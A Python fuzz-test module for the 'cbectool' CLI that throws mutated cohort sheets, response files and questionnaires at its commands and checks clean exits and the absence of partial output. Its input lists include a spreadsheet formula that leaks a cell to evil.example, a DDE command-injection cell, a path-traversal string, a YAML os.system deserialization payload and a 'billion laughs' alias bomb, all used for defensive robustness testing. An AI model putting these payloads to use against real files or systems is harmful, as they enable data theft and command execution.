"""Bad input never crashes: mutated cohort sheets, response files and questionnaires, through the real commands.

For every input the command ends with exit 0, 2 or 3; what it says on stderr is
one-line messages (``Error: ...``, ``Warning: ...``), never a traceback or an
internal error; and it leaves no partial output: after exit 2 the output folder
holds no file, after 0 or 3 every table is complete, and never a temporary file.
Heavy (hundreds of runs): in the slow set. ``FUZZ_COUNTS`` tallies the runs by
command and exit code; ``pytest -m slow tests/test_fuzz.py -s`` prints it, and
``CBECTOOL_FUZZ_EXAMPLES=1000`` makes a longer campaign.
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import json
import os
import tempfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import starter_data
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from cbectool.cli import app

pytestmark = pytest.mark.slow

DATA = Path(__file__).parent / "data"
STARTER = DATA / "questionnaires" / "starter.yaml"
runner = CliRunner()
FUZZ_COUNTS: Counter[tuple[str, int]] = Counter()
EXAMPLES = int(os.environ.get("CBECTOOL_FUZZ_EXAMPLES", "100"))
"""Cases per fuzz test (a few with a PDF each take a tenth); raise it for a longer campaign."""
FUZZ = settings(
    deadline=None,
    max_examples=EXAMPLES,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)

NASTY = [
    "",
    " ",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r\n",
    '"',
    '""unbalanced',
    "a,b;c\td|e",
    "none; alibaba",
    "\x00",
    "\x1b[31mred",
    "\u202egnp.exe",
    "علی اسپورٹس، سیالکوٹ",
    "😀" * 5,
    "A" * 5000,
    "B" * 200_000,
    "1e309",
    "nan",
    "-0",
    "999999999999999999999",
    "2026-11-23",
    "yes",
    "YES ",
    "../../etc/passwd",
    "CON",
    "True",
    "[/bold] Traders",
    "[red]x[/red]",
    ":fire:",
]


def check_outcome(result: Any, command: str, out: Path | None, work: Path) -> None:
    """The contract every fuzzed run keeps (see the module docstring); ``result`` is CliRunner's."""
    code = result.exit_code
    FUZZ_COUNTS[command, code] += 1
    stderr = result.stderr
    assert code in (0, 2, 3), (code, stderr[-2000:], result.exception)
    assert "Traceback" not in stderr and "Internal error" not in stderr, stderr[-2000:]
    lines = [line for line in stderr.splitlines() if line.strip()]
    assert all(line.startswith(("Error: ", "Warning: ")) for line in lines), lines[:5]
    if code == 2:
        assert any(line.startswith("Error: ") for line in lines), stderr
        if out is not None:
            assert not out.exists() or not [path for path in out.rglob("*") if path.is_file()], list(out.rglob("*"))
    else:
        assert not any(line.startswith("Error: ") for line in lines), lines[:5]
    leftovers = [path for path in work.rglob("*") if path.name.endswith(".tmp")]
    assert not leftovers, leftovers


@pytest.fixture(scope="module", autouse=True)
def _report_counts() -> Iterator[None]:
    yield
    if FUZZ_COUNTS:
        total = sum(FUZZ_COUNTS.values())
        print(f"\nfuzz runs: {total}; by command and exit code: {dict(sorted(FUZZ_COUNTS.items()))}")


# Cohort sheets ------------------------------------------------------------------------------------------------

COLUMNS = [
    "business_name",
    "city",
    "pay_receive_channel",
    "pay_invoice_fcy",
    "pay_refunds",
    "log_channel",
    "log_courier_registered",
    "log_hs_code",
    "log_dispatch_days",
    "plat_presence",
    "plat_reply_hours",
    "plat_listing_photos",
    "plat_contact_name",
]
GOOD = [
    [
        "Ali Sports",
        "Sialkot",
        "fcy_account; payoneer",
        "yes",
        "no",
        "courier",
        "yes",
        "yes",
        "3",
        "alibaba",
        "6",
        "some",
        "",
    ],
    ["Zam Zam", "Lahore", "None of these yet", "No", "no", "post", "", "no", "20", "none", "", "", "Sana"],
    [
        "Textile House",
        "Faisalabad",
        "payoneer",
        "yes",
        "yes",
        "forwarder",
        "",
        "yes",
        "5",
        "amazon, daraz",
        "50",
        "all",
        "",
    ],
]


@st.composite
def sheets(draw: st.DrawFn) -> list[list[object]]:
    """A cohort table (header and rows), mutated cell by cell and row by row."""
    header: list[object] = list(COLUMNS)
    rows: list[list[object]] = [list(row) for row in GOOD]
    for _ in range(draw(st.integers(0, 8))):
        action = draw(st.sampled_from(["cell", "cell", "cell", "drop", "dup", "rename", "row", "blank", "ragged"]))
        if action == "cell" and any(rows):
            row = draw(st.sampled_from([row for row in rows if row]))
            row[draw(st.integers(0, len(row) - 1))] = draw(st.sampled_from(NASTY) | st.text(max_size=30))
        elif action == "drop" and len(header) > 1:
            index = draw(st.integers(0, len(header) - 1))
            del header[index]
            for row in rows:
                del row[index : index + 1]
        elif action == "dup":
            header.append(draw(st.sampled_from(COLUMNS)))
        elif action == "rename":
            header[draw(st.integers(0, len(header) - 1))] = draw(st.sampled_from(NASTY) | st.text(max_size=12))
        elif action == "row":
            rows.append([draw(st.sampled_from(NASTY)) for _ in range(draw(st.integers(0, len(header) + 2)))])
        elif action == "blank":
            rows = [] if draw(st.booleans()) else [[""] * len(header)]
        elif action == "ragged" and rows:
            rows[0] = rows[0][: draw(st.integers(0, len(rows[0])))]
    return [header, *rows]


def csv_bytes(table: list[list[object]], separator: str, newline: str, encoding: str) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=separator, lineterminator=newline).writerows(table)
    return buffer.getvalue().encode(encoding, errors="replace")


@st.composite
def byte_mutations(draw: st.DrawFn, data: bytes) -> bytes:
    for _ in range(draw(st.integers(0, 3))):
        action = draw(st.sampled_from(["truncate", "insert", "flip", "bom", "nul"]))
        position = draw(st.integers(0, 2**20)) % max(1, len(data))  # drawn apart from the data's length
        if action == "truncate":
            data = data[:position]
        elif action == "insert":
            data = data[:position] + draw(st.binary(min_size=1, max_size=8)) + data[position:]
        elif action == "flip" and data:
            data = data[:position] + bytes([data[position] ^ draw(st.integers(1, 255))]) + data[position + 1 :]
        elif action == "bom":
            data = draw(st.sampled_from([codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE])) + data
        elif action == "nul":
            data = data[:position] + b"\x00" + data[position:]
    return data


@st.composite
def cohort_csv(draw: st.DrawFn) -> bytes:
    table = draw(sheets())
    separator = draw(st.sampled_from([",", ";", "\t", "|"]))
    newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp1252", "utf-16", "latin-1"]))
    data = csv_bytes(table, separator, newline, encoding)
    if draw(st.booleans()):
        data = draw(byte_mutations(data))
    return data


def run_batch(work: Path, sheet: Path, *extra: str) -> None:
    out = work / "out"
    result = runner.invoke(app, ["batch", str(sheet), "-q", str(STARTER), "--out", str(out), "--workers", "1", *extra])
    check_outcome(result, "batch", out, work)
    if result.exit_code in (0, 3):
        for name in ("scores.csv", "errors.csv"):
            with (out / name).open(encoding="utf-8-sig", newline="") as stream:
                header = next(csv.reader(stream))
            assert header[0] == "row"


@FUZZ
@given(data=cohort_csv(), suffix=st.sampled_from([".csv", ".txt", ".tsv"]))
def test_fuzzed_cohort_csv(data: bytes, suffix: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        sheet = work / f"cohort{suffix}"
        sheet.write_bytes(data)
        run_batch(work, sheet, "--no-summary", "--no-xlsx")


def xlsx_value(value: object) -> object:
    return value if not isinstance(value, str) else value.replace("\x00", "")[:32767]


@st.composite
def cohort_xlsx(draw: st.DrawFn) -> bytes:
    from openpyxl import Workbook

    table = draw(sheets())
    workbook = Workbook()
    workbook.properties.created = workbook.properties.modified = dt.datetime(2026, 11, 23)  # the same bytes again
    sheet = workbook.active
    sheet.title = draw(st.sampled_from(["Cohort", "Sheet1", "Form Responses 1"]))
    if draw(st.booleans()):  # an empty sheet before it
        workbook.create_sheet("Empty", 0)
    for row in table:
        cells = []
        for value in row:
            kind = draw(st.sampled_from(["as is", "as is", "number", "date", "bool", "formula", "none"]))
            cells.append(
                {
                    "as is": value,
                    "number": draw(st.floats(allow_nan=False) | st.integers(-(10**6), 10**6)),
                    "date": dt.datetime(2026, 11, 23, draw(st.integers(0, 23))),
                    "bool": draw(st.booleans()),
                    "formula": draw(st.sampled_from(["=1+1", '=HYPERLINK("http://x","y")', "=A1", "=1/0"])),
                    "none": None,
                }[kind]
            )
        try:
            sheet.append([xlsx_value(cell) for cell in cells])
        except Exception:  # openpyxl refuses some characters (illegal in XML): leave the row out
            sheet.append([])
    if draw(st.booleans()) and sheet.max_row >= 2 and sheet.max_column >= 2:
        first_row = draw(st.integers(1, sheet.max_row))
        first_column = draw(st.integers(1, sheet.max_column - 1))
        sheet.merge_cells(
            start_row=first_row, start_column=first_column, end_row=first_row, end_column=first_column + 1
        )
    buffer = io.BytesIO()
    workbook.save(buffer)
    data = buffer.getvalue()
    if draw(st.integers(0, 4)) == 0:
        data = draw(byte_mutations(data))
    return data


@FUZZ
@given(data=cohort_xlsx())
def test_fuzzed_cohort_xlsx(data: bytes) -> None:
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        sheet = work / "cohort.xlsx"
        sheet.write_bytes(data)
        run_batch(work, sheet, "--no-summary", "--no-xlsx")


@settings(FUZZ, max_examples=max(1, EXAMPLES // 10))
@given(data=cohort_csv())
def test_fuzzed_cohort_with_every_output(data: bytes) -> None:
    """scores.xlsx and the summary PDF too (a PDF per run: fewer cases)."""
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        sheet = work / "cohort.csv"
        sheet.write_bytes(data)
        run_batch(work, sheet)


# Response files ---------------------------------------------------------------------------------------------


def base_response() -> dict[str, object]:
    return starter_data.starter_response(name="Ali Sports Works", city="Sialkot", contact="0300-0000000")


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.sampled_from(NASTY) | st.text(max_size=20),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=3),
    max_leaves=8,
)


@st.composite
def response_documents(draw: st.DrawFn) -> bytes:
    document: dict[str, object] = base_response()
    for _ in range(draw(st.integers(0, 6))):
        part = draw(st.sampled_from(["questionnaire", "business", "answers", "assessed", "top"]))
        target = document if part == "top" else document.get(part)
        if not isinstance(target, dict):
            document[part] = draw(JSON_VALUES)
            continue
        action = draw(st.sampled_from(["set", "set", "delete", "add"]))
        keys = list(target)
        if action == "delete" and keys:
            del target[draw(st.sampled_from(keys))]
        elif action == "set" and keys:
            target[draw(st.sampled_from(keys))] = draw(JSON_VALUES)
        else:
            target[draw(st.text(max_size=10))] = draw(JSON_VALUES)
    form = draw(st.sampled_from(["json", "json", "yaml", "utf-16", "bytes", "deep"]))
    if form == "yaml":
        return yaml.safe_dump(document, allow_unicode=True).encode("utf-8")
    text = json.dumps(document, ensure_ascii=draw(st.booleans()))  # NaN and Infinity too, as Python writes them
    if form == "deep":  # lists in lists, deeper than any parser's recursion
        depth = draw(st.sampled_from([10, 900, 5000]))
        return text.replace('"answers": {', f'"answers": {{"deep": {"[" * depth}{"]" * depth}, ', 1).encode()
    if form == "utf-16":
        return text.encode("utf-16")
    data = text.encode("utf-8")
    return draw(byte_mutations(data)) if form == "bytes" else data


@FUZZ
@given(
    data=response_documents(),
    suffix=st.sampled_from([".json", ".yaml"]),
    command=st.sampled_from(["score", "score-json", "score-bundled", "assess"]),
)
def test_fuzzed_response_files(data: bytes, suffix: str, command: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        response = work / f"response{suffix}"
        response.write_bytes(data)
        out: Path | None = None
        if command == "score":
            args = ["score", str(response), "-q", str(STARTER)]
        elif command == "score-json":
            args = ["score", str(response), "-q", str(STARTER), "--format", "json"]
        elif command == "score-bundled":  # the questionnaire the file names (a bundled one, or none)
            args = ["score", str(response)]
        else:
            out = work / "out"
            args = ["assess", "--answers", str(response), "-q", str(STARTER), "--no-pdf", "--out", str(out)]
        result = runner.invoke(app, args)
        check_outcome(result, command, out, work)
        if command == "score-json" and result.exit_code == 0:
            assert "overall" in json.loads(result.stdout)


@st.composite
def named_responses(draw: st.DrawFn) -> bytes:
    """Valid answers, and a business whose profile is anything a person could type (or paste)."""
    document = base_response()
    business = {"name": draw(st.sampled_from(NASTY[1:]) | st.text(min_size=1, max_size=60))}
    for field in ("city", "sector", "products", "contact"):
        if draw(st.booleans()):
            business[field] = draw(st.sampled_from(NASTY) | st.text(max_size=60))
    document["business"] = business
    return json.dumps(document).encode("utf-8")


@settings(FUZZ, max_examples=max(1, EXAMPLES // 10))
@given(data=st.one_of(response_documents(), named_responses(), named_responses()))
def test_fuzzed_response_files_make_a_report_or_nothing(data: bytes) -> None:
    """The PDF report too (a PDF per run: fewer cases), mostly of businesses with odd names; a failed run
    leaves no PDF."""
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        response = work / "response.json"
        response.write_bytes(data)
        out = work / "out"
        result = runner.invoke(app, ["report", str(response), "-q", str(STARTER), "-o", f"{out}/"])
        check_outcome(result, "report", out, work)
        if result.exit_code == 0:
            assert [path.suffix for path in out.iterdir()] == [".pdf"]


# Questionnaires ----------------------------------------------------------------------------------------------

STARTER_TEXT = STARTER.read_text(encoding="utf-8")
YAML_NASTY = [
    "",
    "-1",
    "1e400",
    ".nan",
    "null",
    "[]",
    "{}",
    "yes",
    "'unterminated",
    "&a [1, 2]",
    "*a",
    "!!python/object/apply:os.system ['true']",
    "\t",
    "x" * 10_000,
    "{en: '', ur: x}",
    "{question: pay_invoice_fcy, equals: maybe}",
    "{all: []}",
    '"line one\\nline two \\x1e"',
    "'[/bold] [red]'",
]


@st.composite
def questionnaire_texts(draw: st.DrawFn) -> bytes:
    lines = STARTER_TEXT.splitlines()
    for _ in range(draw(st.integers(1, 6))):
        action = draw(st.sampled_from(["delete", "duplicate", "swap", "indent", "value", "value", "laughs", "deep"]))
        index = draw(st.integers(0, len(lines) - 1))
        if action == "delete":
            del lines[index]
        elif action == "duplicate":
            lines.insert(index, lines[index])
        elif action == "swap":
            other = draw(st.integers(0, len(lines) - 1))
            lines[index], lines[other] = lines[other], lines[index]
        elif action == "indent":
            lines[index] = draw(st.sampled_from(["  ", "\t", " "])) + lines[index]
        elif action == "value" and ":" in lines[index]:
            key = lines[index].split(":", 1)[0]
            lines[index] = f"{key}: {draw(st.sampled_from(YAML_NASTY) | st.text(max_size=15))}"
        elif action == "deep" and ":" in lines[index]:
            depth = draw(st.sampled_from([10, 900, 5000]))
            lines[index] = f"{lines[index].split(':', 1)[0]}: {'[' * depth}{']' * depth}"
        elif action == "laughs":  # nested aliases that expand a thousand-fold (a "billion laughs" in small)
            lines[index:index] = [
                "x-a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]",
                "x-b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]",
                "x-c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]",
            ]
    data = "\n".join(lines).encode("utf-8")
    return draw(byte_mutations(data)) if draw(st.integers(0, 3)) == 0 else data


@FUZZ
@given(data=questionnaire_texts(), command=st.sampled_from(["validate", "score"]))
def test_fuzzed_questionnaires(data: bytes, command: str) -> None:
    with tempfile.TemporaryDirectory() as folder:
        work = Path(folder)
        questionnaire = work / "mine.yaml"
        questionnaire.write_bytes(data)
        if command == "validate":
            args = ["questionnaire", "validate", str(questionnaire)]
        else:
            response = work / "response.json"
            response.write_text(json.dumps(base_response()), encoding="utf-8")
            args = ["score", str(response), "-q", str(questionnaire)]
        check_outcome(runner.invoke(app, args), f"questionnaire-{command}", None, work)
